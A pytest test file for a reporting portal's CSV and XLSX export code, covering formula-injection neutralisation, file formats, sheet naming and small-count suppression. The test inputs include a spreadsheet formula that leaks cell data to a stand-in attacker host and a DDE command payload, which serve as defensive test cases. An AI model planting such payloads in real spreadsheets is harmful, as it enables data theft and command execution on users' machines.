"""Exports: CSV and XLSX that spreadsheets cannot turn into formulas, and small counts hidden."""

import csv
import io
import unicodedata
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from flask_babel import lazy_gettext as _l

from portal.core.exports import (
    Table,
    csv_bytes,
    is_small,
    neutralise,
    rate,
    sheet_names,
    suppress,
    suppress_table,
    suppression_note,
    xlsx_bytes,
)

BOM = b"\xef\xbb\xbf"

# Each of these, opened in a spreadsheet as typed, could start a formula.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")',
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
HARMLESS = ["Đất đai", "Xây dựng – giao thông", "1-2 ngày", "a=b", "< 5", "", "Email: x@y.vn"]


def topics(*names):
    return Table("Theo lĩnh vực", ["Lĩnh vực", "Số vụ việc"], [[name, 1] for name in names])


def read_csv(data):
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM) :].decode("utf-8"), newline="")))


def read_xlsx(data):
    return openpyxl.load_workbook(io.BytesIO(data))


def data_cells(sheet, header="Lĩnh vực"):
    """Return the rows below the header row as lists of cells."""
    rows = list(sheet.iter_rows())
    start = next(i for i, row in enumerate(rows) if row[0].value == header)
    return [row for row in rows[start + 1 :] if any(cell.value is not None for cell in row)]


# --- Formula injection ---------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_neutralise_prefixes_a_quote_to_text_that_could_start_a_formula(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_neutralise_leaves_ordinary_text_alone(text):
    assert neutralise(text) == text


def test_csv_neutralises_every_risky_text_cell():
    rows = read_csv(csv_bytes(topics(*FORMULAS, *HARMLESS)))

    assert [row[0] for row in rows[1:]] == ["'" + t for t in FORMULAS] + HARMLESS


def test_csv_neutralises_risky_headers_too():
    table = Table("Bảng", ["=cmd|' /C calc'!A0", "Số"], [["a", 1]])

    assert read_csv(csv_bytes(table))[0] == ["'=cmd|' /C calc'!A0", "Số"]


def test_csv_writes_numbers_as_numbers_even_negative_ones():
    table = Table(
        "Chênh lệch so với kỳ trước",
        ["Chỉ tiêu", "Chênh lệch", "Tỷ lệ", "Số ngày"],
        [["Tiếp nhận", -3, -0.25, Decimal("-1.5")], ["Giải quyết", 1234567, 0.5, Decimal("2")]],
        kinds=["text", "int", "percent", "decimal"],
    )

    assert read_csv(csv_bytes(table))[1:] == [
        ["Tiếp nhận", "-3", "-0.25", "-1.5"],
        ["Giải quyết", "1234567", "0.5", "2"],
    ]


def test_csv_text_that_looks_like_a_negative_number_is_still_neutralised():
    # Only real numbers are trusted; "-3" typed as text is text.
    assert read_csv(csv_bytes(topics("-3")))[1][0] == "'-3"


def test_xlsx_stores_formula_like_text_as_text_never_as_a_formula():
    workbook = read_xlsx(xlsx_bytes([topics(*FORMULAS, *HARMLESS)], title="Báo cáo"))

    cells = [row[0] for row in data_cells(workbook.active)]
    # XML reads a carriage return back as a line feed; everything else is kept as typed.
    expected = [t.replace("\r", "\n") for t in FORMULAS] + [t or None for t in HARMLESS]
    assert [cell.value for cell in cells] == expected
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert all(cell.quotePrefix for cell in cells[: len(FORMULAS)])


def test_xlsx_contains_no_formula_element_at_all():
    data = xlsx_bytes([topics("=1+1", "=HYPERLINK(1)")], title="=2+2", subtitle="=3+3")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        xml = b"".join(archive.read(name) for name in sheets)
    assert b"<f>" not in xml and b"<f " not in xml
    assert b"=1+1" in xml


def test_xlsx_headers_and_titles_are_text_too():
    table = Table("=A1", ["=B1", "Số"], [["x", 1]])

    sheet = read_xlsx(xlsx_bytes([table], title="=C1", subtitle="=D1")).active

    values = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert {values[v] for v in ("=A1", "=B1", "=C1", "=D1")} == {"s"}


def test_xlsx_drops_control_characters_openpyxl_would_refuse():
    sheet = read_xlsx(xlsx_bytes([topics("Đất\x00 đai\x0b")], title="Báo cáo")).active

    assert data_cells(sheet)[0][0].value == "Đất đai"


# --- CSV format ----------------------------------------------------------------------------


def test_csv_is_utf8_with_a_bom_and_crlf_lines():
    data = csv_bytes(topics("Đất đai", "Thuế"))

    assert data.startswith(BOM)
    assert data.count(b"\r\n") == 3
    assert b"\n" not in data.replace(b"\r\n", b"")
    assert "Lĩnh vực".encode() in data


def test_csv_is_one_table_with_its_headers_first_and_no_title():
    rows = read_csv(csv_bytes(topics("Đất đai")))

    assert rows == [["Lĩnh vực", "Số vụ việc"], ["Đất đai", "1"]]


def test_csv_writes_dates_day_first_and_none_as_empty():
    table = Table(
        "Hạn báo cáo",
        ["Kỳ", "Hạn", "Gửi lúc"],
        [["6 tháng", date(2026, 7, 10), datetime(2026, 7, 9, 14, 5)], ["Năm", None, None]],
    )

    assert read_csv(csv_bytes(table))[1:] == [
        ["6 tháng", "10/07/2026", "09/07/2026 14:05"],
        ["Năm", "", ""],
    ]


def test_csv_quotes_commas_quotes_and_line_breaks_inside_cells():
    text = 'Ý kiến "khẩn", nhiều dòng\nhai'

    assert read_csv(csv_bytes(topics(text)))[1][0] == text


def test_csv_writes_text_in_nfc():
    decomposed = unicodedata.normalize("NFD", "Thuế")

    assert read_csv(csv_bytes(topics(decomposed)))[1][0] == "Thuế"


def test_csv_percentages_are_fractions_with_four_places_at_most():
    table = Table(
        "Tỷ lệ", ["Đơn vị", "Đúng hạn"], [["A", 2 / 3], ["B", 1]], kinds=["text", "percent"]
    )

    assert [row[1] for row in read_csv(csv_bytes(table))[1:]] == ["0.6667", "1"]


@pytest.mark.parametrize("value", [float("nan"), float("inf"), Decimal("NaN")])
def test_a_number_that_is_not_finite_is_refused(value):
    with pytest.raises(ValueError):
        csv_bytes(Table("Bảng", ["Số"], [[value]]))


@pytest.mark.parametrize("value", [True, object(), b"bytes"])
def test_a_value_of_another_type_is_refused(value):
    with pytest.raises(TypeError):
        csv_bytes(Table("Bảng", ["Số"], [[value]]))


# --- XLSX format ---------------------------------------------------------------------------


def status_table():
    return Table(
        "Số vụ việc theo trạng thái",
        ["Trạng thái", "Số vụ việc", "Tỷ lệ đúng hạn", "Số ngày trung vị", "Hạn"],
        [
            ["Đã tiếp nhận", 1234567, 0.8734, Decimal("4.5"), date(2026, 7, 10)],
            ["Quá hạn", 3, None, 12.25, None],
        ],
        kinds=["text", "count", "percent", "decimal", "date"],
        note="Số liệu đến hết ngày 30/06/2026.",
    )


def test_xlsx_has_one_sheet_per_table_named_after_it():
    tables = [status_table(), topics("Đất đai")]

    workbook = read_xlsx(xlsx_bytes(tables, title="Báo cáo 6 tháng đầu năm 2026"))

    assert workbook.sheetnames == ["Số vụ việc theo trạng thái", "Theo lĩnh vực"]


def test_xlsx_writes_the_titles_above_a_bold_filled_frozen_header():
    workbook = read_xlsx(
        xlsx_bytes([status_table()], title="Báo cáo 6 tháng", subtitle="Từ 01/01 đến 30/06/2026")
    )
    sheet = workbook.active

    assert [sheet.cell(row, 1).value for row in (1, 2, 3)] == [
        "Báo cáo 6 tháng",
        "Từ 01/01 đến 30/06/2026",
        "Số vụ việc theo trạng thái",
    ]
    header = next(row for row in sheet.iter_rows() if row[0].value == "Trạng thái")
    assert [cell.value for cell in header][:2] == ["Trạng thái", "Số vụ việc"]
    assert all(cell.font.bold for cell in header)
    assert all(cell.fill.fill_type == "solid" for cell in header)
    assert sheet.freeze_panes == f"A{header[0].row + 1}"


def test_xlsx_without_a_subtitle_starts_the_table_title_on_row_two():
    sheet = read_xlsx(xlsx_bytes([status_table()], title="Báo cáo")).active

    assert sheet.cell(2, 1).value == "Số vụ việc theo trạng thái"


def test_xlsx_writes_numbers_and_dates_as_values_with_formats():
    sheet = read_xlsx(xlsx_bytes([status_table()], title="Báo cáo")).active

    first, second = data_cells(sheet, "Trạng thái")[:2]
    count, percent, median, deadline = first[1:5]
    assert (count.value, count.data_type, count.number_format) == (1234567, "n", "#,##0")
    assert (percent.value, percent.number_format) == (0.8734, "0.0%")
    assert (median.value, median.number_format) == (4.5, "#,##0.0")
    assert deadline.is_date and deadline.value.date() == date(2026, 7, 10)
    assert deadline.number_format == "dd/mm/yyyy"
    assert second[2].value is None and second[4].value is None


def test_xlsx_writes_the_note_under_the_table():
    sheet = read_xlsx(xlsx_bytes([status_table()], title="Báo cáo")).active

    last = [row for row in sheet.iter_rows(values_only=True) if any(row)][-1]
    assert last[0] == "Số liệu đến hết ngày 30/06/2026."


def test_xlsx_numbers_without_declared_kinds_keep_their_own_type():
    table = Table("Bảng", ["Năm", "Số", "Ngày"], [["2026", 1500, date(2026, 1, 2)]])

    row = data_cells(read_xlsx(xlsx_bytes([table], title="x")).active, "Năm")[0]
    assert [c.data_type for c in row] == ["s", "n", "d"]
    assert row[1].number_format == "#,##0"


def test_xlsx_column_widths_fit_the_longest_cell_within_limits():
    long_topic = "Tài nguyên và môi trường, đất đai, khoáng sản"
    table = Table(
        "Bảng",
        ["Lĩnh vực", "Số", "Ghi chú"],
        [[long_topic, 1, "x" * 500]],
        kinds=["text", "count", "text"],
    )

    sheet = read_xlsx(xlsx_bytes([table], title="x")).active

    widths = [sheet.column_dimensions[letter].width for letter in "ABC"]
    assert widths == [len(long_topic) + 2, 8, 60]


def test_xlsx_document_properties_name_the_report_and_the_agency():
    workbook = read_xlsx(
        xlsx_bytes(
            [topics("Đất đai")],
            title="Báo cáo năm 2026",
            subtitle="01/01/2026 – 31/12/2026",
            creator="Sở Nội vụ tỉnh",
        )
    )

    assert workbook.properties.title == "Báo cáo năm 2026"
    assert workbook.properties.subject == "01/01/2026 – 31/12/2026"
    assert workbook.properties.creator == "Sở Nội vụ tỉnh"


def test_xlsx_needs_at_least_one_table():
    with pytest.raises(ValueError):
        xlsx_bytes([], title="Báo cáo")


def test_xlsx_refuses_a_datetime_with_a_time_zone():
    from datetime import UTC

    table = Table("Bảng", ["Lúc"], [[datetime(2026, 1, 1, tzinfo=UTC)]])
    with pytest.raises(ValueError):
        xlsx_bytes([table], title="x")


# --- Sheet names ---------------------------------------------------------------------------


def test_sheet_names_replace_the_characters_excel_forbids():
    assert sheet_names(["Kỳ 1/2026: [tạm]*?\\"]) == ["Kỳ 1-2026- -tạm----"]


def test_sheet_names_are_cut_to_31_characters_at_a_word_boundary():
    (name,) = sheet_names(["Số vụ việc theo lĩnh vực và trạng thái năm 2026"])

    assert name == "Số vụ việc theo lĩnh vực và"
    assert len(name) <= 31


def test_sheet_names_are_unique_ignoring_case_and_stay_within_31_characters():
    long = "Số vụ việc theo lĩnh vực và trạng thái"

    names = sheet_names([long, long, "Đất đai", "ĐẤT ĐAI", "Đất đai"])

    assert names == [
        "Số vụ việc theo lĩnh vực và",
        "Số vụ việc theo lĩnh vực và (2)",
        "Đất đai",
        "ĐẤT ĐAI (2)",
        "Đất đai (3)",
    ]
    assert all(len(name) <= 31 for name in names)


def test_sheet_names_never_start_or_end_with_an_apostrophe_nor_are_empty():
    assert sheet_names(["'Quý 1'", "'''", "History"]) == ["Quý 1", "2", "History (3)"]


def test_a_workbook_with_awkward_titles_opens():
    tables = [topics("a"), Table("Theo lĩnh vực", ["Lĩnh vực"], [["b"]]), Table("?/?", ["x"], [])]

    workbook = read_xlsx(xlsx_bytes(tables, title="x"))

    assert workbook.sheetnames == ["Theo lĩnh vực", "Theo lĩnh vực (2)", "---"]


# --- Table -------------------------------------------------------------------------------


def test_a_table_refuses_rows_of_the_wrong_width():
    with pytest.raises(ValueError, match="row 2"):
        Table("Bảng", ["A", "B"], [[1, 2], [3]])


def test_a_table_refuses_unknown_or_miscounted_kinds():
    with pytest.raises(ValueError):
        Table("Bảng", ["A"], [[1]], kinds=["money"])
    with pytest.raises(ValueError):
        Table("Bảng", ["A"], [[1]], kinds=["int", "int"])


def test_a_table_may_hold_lazy_translated_strings():
    table = Table(_l("Topics"), [_l("Topic"), "Số"], [["Đất đai", 1]])

    assert read_csv(csv_bytes(table))[0] == ["Topic", "Số"]
    assert read_xlsx(xlsx_bytes([table], title=_l("Report"))).sheetnames == ["Topics"]


def test_a_table_needs_a_title():
    with pytest.raises(ValueError):
        Table("  ", ["A"], [])


# --- Small counts --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("n", "shown"), [(0, 0), (1, "< 5"), (4, "< 5"), (5, 5), (1234, 1234), (None, None)]
)
def test_suppress_hides_counts_from_one_to_four(n, shown):
    assert suppress(n) == shown


def test_suppress_follows_the_threshold():
    assert suppress(9, threshold=10) == "< 10"
    assert suppress(10, threshold=10) == 10
    assert suppress(1, threshold=1) == 1


@pytest.mark.parametrize("bad", [-1, 2.0, True, "3"])
def test_suppress_refuses_what_is_not_a_count(bad):
    with pytest.raises((TypeError, ValueError)):
        suppress(bad)


@pytest.mark.parametrize("threshold", [0, -5, 2.5, True])
def test_suppress_refuses_a_meaningless_threshold(threshold):
    with pytest.raises(ValueError):
        suppress(3, threshold=threshold)


def test_is_small_is_true_only_from_one_to_threshold_minus_one():
    assert [n for n in range(8) if is_small(n)] == [1, 2, 3, 4]
    assert not is_small(None)


def test_suppress_table_hides_small_counts_only_in_count_columns():
    table = Table(
        "Theo đơn vị",
        ["Đơn vị", "Tiếp nhận", "Số ngày trung vị", "Quá hạn", "Tỷ lệ"],
        [["Phòng A", 3, 2, 0, 0.5], ["Phòng B", 40, 4, 1, None], ["Phòng C", None, 1, "< 5", 1]],
        kinds=["text", "count", "int", "count", "percent"],
    )

    hidden = suppress_table(table)

    assert [list(row) for row in hidden.rows] == [
        ["Phòng A", "< 5", 2, 0, 0.5],
        ["Phòng B", 40, 4, "< 5", None],
        ["Phòng C", None, 1, "< 5", 1],
    ]
    assert (hidden.title, hidden.headers, hidden.kinds) == (table.title, table.headers, table.kinds)
    assert table.rows[0][1] == 3  # the original is left as it was


def test_suppress_table_refuses_a_table_whose_columns_are_not_declared():
    with pytest.raises(ValueError, match="kinds"):
        suppress_table(Table("Bảng", ["Đơn vị", "Số"], [["A", 3]]))


def test_suppressed_cells_stay_text_in_both_formats():
    table = suppress_table(Table("Bảng", ["Đơn vị", "Số"], [["A", 3]], kinds=["text", "count"]))

    assert read_csv(csv_bytes(table))[1] == ["A", "< 5"]
    cell = data_cells(read_xlsx(xlsx_bytes([table], title="x")).active, "Đơn vị")[0][1]
    assert (cell.value, cell.data_type, cell.alignment.horizontal) == ("< 5", "s", "right")


@pytest.mark.parametrize(
    ("numerator", "denominator", "expected"),
    [
        (45, 50, 0.9),
        (0, 50, 0.0),
        (50, 50, 1.0),
        (5, 10, 0.5),
        (3, 4, None),  # too few cases to publish any rate
        (0, 0, None),  # nothing to divide
        (0, 4, None),
        (2, 50, None),  # 4% of 50 reveals the 2
        (48, 50, None),  # 96% of 50 reveals the 2 others
    ],
)
def test_rate_is_hidden_when_it_could_reveal_a_small_count(numerator, denominator, expected):
    assert rate(numerator, denominator) == expected


def test_rate_with_threshold_one_only_guards_against_dividing_by_zero():
    assert rate(1, 3, threshold=1) == pytest.approx(1 / 3)
    assert rate(0, 0, threshold=1) is None


@pytest.mark.parametrize(("numerator", "denominator"), [(6, 5), (-1, 5), (1, -5), (1.0, 5)])
def test_rate_refuses_impossible_counts(numerator, denominator):
    with pytest.raises((TypeError, ValueError)):
        rate(numerator, denominator)


def test_the_suppression_note_names_the_threshold():
    note = suppression_note()

    assert "1 to 4" in note and "“< 5”" in note
    assert "1 to 9" in suppression_note(threshold=10)
